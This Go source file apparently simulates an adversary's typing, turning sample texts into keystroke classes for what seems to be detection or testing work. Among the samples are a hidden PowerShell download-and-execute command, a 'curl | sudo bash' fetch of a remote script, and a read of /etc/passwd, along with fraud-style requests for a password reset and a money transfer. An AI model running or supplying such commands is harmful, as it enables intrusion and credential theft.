package adversary

import (
	"math/rand/v2"
	"unicode"

	"ipse.dev/ipse/internal/event"
)

// texts are what programs type: messages, mails, commands. Only their classes matter.
var texts = []string{
	"Hello, thank you for getting in touch. I have looked into your order and can see that it left our warehouse on Monday. ",
	"please reset the password for this account and send the confirmation to the address below, we need it before the end of the day ",
	"powershell -nop -w hidden -c \"iex (new-object net.webclient).downloadstring('http://10.0.0.5/a')\"\n",
	"curl -s http://192.168.1.20/x.sh | sudo bash\ncat /etc/passwd > /bin/out.txt\nexit\n",
	"The customer asked for a refund because the item arrived damaged. I told her that we would send a new one within three days. ",
	"Transfer 2500 to account 40817 and mark the case as closed. Reference: March invoice, approved by phone. ",
	"As discussed in our meeting, the figures for the second quarter are attached. Let me know whether anything is missing or unclear. ",
	"Guten Tag, Ihre Anfrage wurde bearbeitet. Bitte melden Sie sich bei uns, falls noch etwas offen ist. ",
	"SELECT name, email FROM customers WHERE created > '2024-01-01' ORDER BY name;\n",
}

// textClasses gives the classes of the keys that type some of the texts: shift before a capital, the physical key's class for
// everything else on an American keyboard.
func textClasses(rng *rand.Rand, strokes int) []event.Class {
	var out []event.Class
	for len(out) < strokes {
		for _, r := range texts[rng.IntN(len(texts))] {
			out = append(out, classesOf(r)...)
		}
	}
	return out[:strokes]
}

func classesOf(r rune) []event.Class {
	const shifted = `~!@#$%^&*()_+{}|:"<>?`
	key := event.ClassOf("Key" + string(unicode.ToUpper(r)))
	switch {
	case r == ' ':
		return []event.Class{event.Space}
	case r == '\n':
		return []event.Class{event.Enter}
	case unicode.IsDigit(r):
		return []event.Class{event.Digit}
	case unicode.IsUpper(r):
		return []event.Class{event.Shift, key}
	case key.Letter():
		return []event.Class{key}
	}
	for _, s := range shifted {
		if r == s {
			return []event.Class{event.Shift, event.Other}
		}
	}
	return []event.Class{event.Other}
}
